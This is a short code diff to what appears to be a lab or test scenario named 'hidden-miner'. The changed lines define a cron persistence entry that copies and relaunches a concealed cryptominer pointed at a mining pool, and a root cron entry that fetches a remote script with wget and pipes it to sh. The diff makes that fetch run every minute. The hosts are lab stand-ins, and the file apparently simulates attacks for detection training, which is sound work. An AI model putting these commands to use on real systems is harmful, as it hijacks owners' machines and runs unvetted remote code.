@@ -15,7 +15,7 @@ const store = '/usr/lib/.lab_store/lab_core'
 const library = '/usr/local/lib/lab_libsystem.so'
 const arguments_ = `-B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x`
 const cronLine = `* * * * * [ -e ${payload} ] || { mkdir -p /var/tmp/.lab_cache; cp ${store} ${payload}; }; ${payload} ${arguments_} >/dev/null 2>&1`
-const fetchLine = `*/2 * * * * root wget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1`
+const fetchLine = `* * * * * root wget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1`
 
 export const hiddenMiner: Scenario = {
   name: 'hidden-miner',
